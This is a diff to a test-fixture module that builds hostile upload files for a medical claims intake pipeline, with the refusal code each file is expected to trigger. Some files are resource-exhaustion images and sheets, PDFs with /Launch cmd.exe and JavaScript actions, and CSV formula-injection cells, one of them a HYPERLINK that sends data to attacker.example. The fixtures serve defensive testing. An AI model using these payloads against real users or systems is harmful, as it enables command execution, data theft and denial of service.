@@ -32,6 +32,16 @@ from PIL import Image
 from .invoices import LAYOUTS, add_macro_project, invoice_bytes, invoice_rows, sample_claims
 
 FORMULA_TRIGGERS = ("=", "+", "-", "@")
+# Every file here bills the sample roster's provider (samples/reference/providers.csv), so a file read
+# through the pipeline, uploaded into that provider's folder, is filed, not refused as another's.
+PROVIDER_NPI = "1456700016"
+
+
+def _provider_claims(**kwargs):
+    claims = sample_claims(**kwargs)
+    for claim in claims:
+        claim.billing_provider_npi = PROVIDER_NPI
+    return claims
 
 
 @dataclass(frozen=True)
@@ -50,12 +60,12 @@ class HostileCase:
 
 @cache
 def good_invoice_xlsx() -> bytes:
-    return invoice_bytes(sample_claims(count=1, lines=2, seed=10), "dhcs_template", "xlsx")
+    return invoice_bytes(_provider_claims(count=1, lines=2, seed=10), "dhcs_template", "xlsx")
 
 
 @cache
 def good_invoice_csv() -> bytes:
-    return invoice_bytes(sample_claims(count=1, lines=2, seed=11), "dhcs_template", "csv")
+    return invoice_bytes(_provider_claims(count=1, lines=2, seed=11), "dhcs_template", "csv")
 
 
 def rewrite_zip(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
@@ -103,7 +113,7 @@ def xlsx_encrypted() -> bytes:
 
 def csv_formula_injection() -> bytes:
     """A well-formed invoice whose text cells start with = + - @ (DDE and HYPERLINK payloads)."""
-    claims = sample_claims(count=1, lines=2, seed=12)
+    claims = _provider_claims(count=1, lines=2, seed=12)
     claims[0].billing_provider_name = '=cmd|" /C calc"!A0'
     claims[0].member_address = '@SUM(1+1)*cmd|" /C calc"!A0'
     claims[0].billing_provider_address = '+HYPERLINK("http://attacker.example/?x="&A1,"click")'
@@ -118,7 +128,7 @@ def csv_formula_injection() -> bytes:
 
 def csv_cp1252() -> bytes:
     """An Excel 'CSV' saved in Windows-1252: accented names are single bytes that are not UTF-8."""
-    claims = sample_claims(count=1, lines=2, seed=13)
+    claims = _provider_claims(count=1, lines=2, seed=13)
     claims[0].member_last_name = "PEÑA-MUÑOZ"
     claims[0].billing_provider_name = "SERVICIOS DE SALUD JOSÉ"
     return invoice_bytes(claims, "dhcs_template", "csv", encoding="cp1252")
@@ -126,7 +136,7 @@ def csv_cp1252() -> bytes:
 
 def csv_utf16() -> bytes:
     """Excel's 'Unicode Text': UTF-16 with a byte-order mark, tab-delimited (NUL bytes everywhere)."""
-    claims = sample_claims(count=1, lines=2, seed=14)
+    claims = _provider_claims(count=1, lines=2, seed=14)
     claims[0].member_last_name = "NGUYỄN"
     return invoice_bytes(claims, "dhcs_template", "csv", encoding="utf-16", delimiter="\t")
 
@@ -280,8 +290,143 @@ def upside_down_cms1500() -> bytes:
     """A filled claim fed into the scanner upside down."""
     from .scans import render_pages, sample_claim
 
-    page = render_pages(sample_claim(seed=21, lines=2))[0]
+    claim = sample_claim(seed=21, lines=2)
+    for fields in claim.pages:
+        fields["pin"] = PROVIDER_NPI
+    claim.expected["elements"]["billing_provider_npi"] = PROVIDER_NPI
+    page = render_pages(claim)[0]
     return _scan_pdf(page.rotate(180))
+
+
+# ---- round two: the probe's memory, shape and action cases --------------------------------------
+
+def _with_sheet_cell(reference: str) -> bytes:
+    """The good invoice with one extra cell (a number) at `reference`, in a row of its own at the end."""
+    row = int("".join(ch for ch in reference if ch.isdigit()))
+
+    def add(name: str, data: bytes) -> bytes:
+        if name != "xl/worksheets/sheet1.xml":
+            return data
+        cell = f'<row r="{row}"><c r="{reference}"><v>1</v></c></row>'.encode()
+        return data.replace(b"</sheetData>", cell + b"</sheetData>")
+    return rewrite_zip(good_invoice_xlsx(), add)
+
+
+def xlsx_far_cell() -> bytes:
+    """A 6 KB invoice with one stray cell at XFD20000: a dense reader allocates 20,000 x 16,384 cells."""
+    return _with_sheet_cell("XFD20000")
+
+
+def xlsx_wide_area() -> bytes:
+    """A stray cell at GR19000 (column 200): under the column limit, 3.8 million cells of used area."""
+    return _with_sheet_cell("GR19000")
+
+
+def _png(width: int, height: int) -> bytes:
+    """A valid white 1-bit PNG of any size, compressed row by row (a 40-Mpx strip is ~100 KB)."""
+    row = b"\x00" + b"\xff" * ((width + 7) // 8)
+    compressor = zlib.compressobj(9)
+    parts = [compressor.compress(row * min(4096, height - start)) for start in range(0, height, 4096)]
+    parts.append(compressor.flush())
+    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", b"".join(parts))
+            + _png_chunk(b"IEND", b""))
+
+
+def png_strip() -> bytes:
+    """20000 x 20 pixels (1.4 KB): taken as a letter page 20 px wide, OCR would blow it up 40-fold."""
+    return _png(20_000, 20)
+
+
+def png_line() -> bytes:
+    """1 x 39,999,999 pixels: under the pixel limit, a page of no width."""
+    return _png(1, 39_999_999)
+
+
+def pdf_huge_page() -> bytes:
+    """One blank 200 x 200 inch page (1.4 KB): rendered for OCR it is billions of pixels."""
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=14_400, height=14_400)
+    return _written(writer)
+
+
+def _with_action(place: str, action: dict) -> bytes:
+    """The one-page PDF with `action` hung at `place`: open, page, link or chain."""
+    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
+
+    def pdf_value(value):
+        if isinstance(value, dict):
+            return DictionaryObject({NameObject(k): pdf_value(v) for k, v in value.items()})
+        return NameObject(value) if value.startswith("/") else TextStringObject(value)
+
+    writer = _writer_with_a_page()
+    action_object = writer._add_object(pdf_value(action))
+    page = writer.pages[0]
+    if place == "open":
+        writer._root_object[NameObject("/OpenAction")] = action_object
+    elif place == "page":
+        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action_object})
+    elif place == "link":
+        link = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+                                 NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 72, 300, 100)]),
+                                 NameObject("/A"): action_object})
+        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+    elif place == "chain":  # a harmless first action whose /Next runs the payload
+        first = DictionaryObject({NameObject("/S"): NameObject("/GoTo"),
+                                  NameObject("/D"): ArrayObject([page.indirect_reference, NameObject("/Fit")]),
+                                  NameObject("/Next"): action_object})
+        writer._root_object[NameObject("/OpenAction")] = writer._add_object(first)
+    return _written(writer)
+
+
+_SCRIPT = {"/S": "/JavaScript", "/JS": "app.alert('hello');"}
+
+
+def pdf_launch() -> bytes:
+    return _with_action("open", {"/S": "/Launch", "/F": "cmd.exe"})
+
+
+def pdf_page_javascript() -> bytes:
+    return _with_action("page", _SCRIPT)
+
+
+def pdf_link_javascript() -> bytes:
+    return _with_action("link", _SCRIPT)
+
+
+def pdf_javascript_chain() -> bytes:
+    return _with_action("chain", _SCRIPT)
+
+
+def pdf_owner_password_only() -> bytes:
+    """A letter with permissions only (no password to open): every viewer opens it, so must intake."""
+    from pypdf import PdfReader, PdfWriter
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_not_a_cms1500())))
+    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="AES-128")
+    return _written(writer)
+
+
+def csv_named_exe() -> bytes:
+    return good_invoice_csv()
+
+
+def csv_nul_late() -> bytes:
+    """A long CSV (past the 64 KiB the type sniffer reads) with a NUL byte inside a member's name."""
+    claims = _provider_claims(count=200, lines=3, seed=12)
+    claims[-1].member_last_name = "SMITH\x00DROP"
+    return invoice_bytes(claims, "dhcs_template", "csv")
+
+
+def csv_mixed_encoding() -> bytes:
+    """UTF-8 throughout except one row a Windows program appended in cp1252."""
+    claims = _provider_claims(count=2, lines=1, seed=13)
+    claims[0].member_last_name = "NUÑEZ"
+    claims[1].member_last_name = "PEÑA"
+    text = invoice_bytes(claims, "dhcs_template", "csv")
+    return text.replace("PEÑA".encode(), "PEÑA".encode("cp1252"))
 
 
 # ---- other files ------------------------------------------------------------------------------
@@ -319,7 +464,27 @@ CASES: dict[str, HostileCase] = {case.name: case for case in [
                 why="a letter, not a claim form"),
     HostileCase("blank_cms1500", "claim.pdf", blank_cms1500, "no_data", needs_ocr=True,
                 why="a CMS-1500 with nothing filled in"),
+    HostileCase("xlsx_far_cell", "invoice.xlsx", xlsx_far_cell, "too_many_columns",
+                why="one stray cell at XFD20000"),
+    HostileCase("xlsx_wide_area", "invoice.xlsx", xlsx_wide_area, "too_many_cells",
+                why="one stray cell at GR19000"),
+    HostileCase("png_strip", "claim.png", png_strip, "page_size", why="20000 x 20 pixels"),
+    HostileCase("png_line", "claim.png", png_line, "page_size", why="1 x 39,999,999 pixels"),
+    HostileCase("pdf_huge_page", "claim.pdf", pdf_huge_page, "page_size", why="a 200 x 200 inch page"),
+    HostileCase("pdf_launch", "claim.pdf", pdf_launch, "pdf_action", why="an /OpenAction /Launch"),
+    HostileCase("pdf_page_javascript", "claim.pdf", pdf_page_javascript, "pdf_javascript",
+                why="a page-open JavaScript action"),
+    HostileCase("pdf_link_javascript", "claim.pdf", pdf_link_javascript, "pdf_javascript",
+                why="a link running JavaScript"),
+    HostileCase("pdf_javascript_chain", "claim.pdf", pdf_javascript_chain, "pdf_javascript",
+                why="a GoTo /OpenAction whose /Next is JavaScript"),
+    HostileCase("csv_named_exe", "invoice.exe", csv_named_exe, "wrong_extension", why="a CSV named .exe"),
+    HostileCase("csv_nul_late", "invoice.csv", csv_nul_late, "binary_content", why="a NUL byte at 70 KB"),
+    HostileCase("pdf_owner_password", "claim.pdf", pdf_owner_password_only, "not_cms1500", needs_ocr=True,
+                why="an owner password only: read (a letter, so no claim), not refused as encrypted"),
     # Read, with the danger neutralised and a note recorded (not quarantined):
+    HostileCase("csv_mixed_encoding", "invoice.csv", csv_mixed_encoding, "mixed_encoding", refused=False,
+                note="Windows-1252 on line", why="UTF-8 with one cp1252 row"),
     HostileCase("xlsm_macros", "invoice.xlsm", xlsm_with_macros, "macros_ignored", refused=False,
                 note="macros never run", why="an Auto_Open VBA project"),
     HostileCase("csv_formula_injection", "invoice.csv", csv_formula_injection, "formula_text", refused=False,
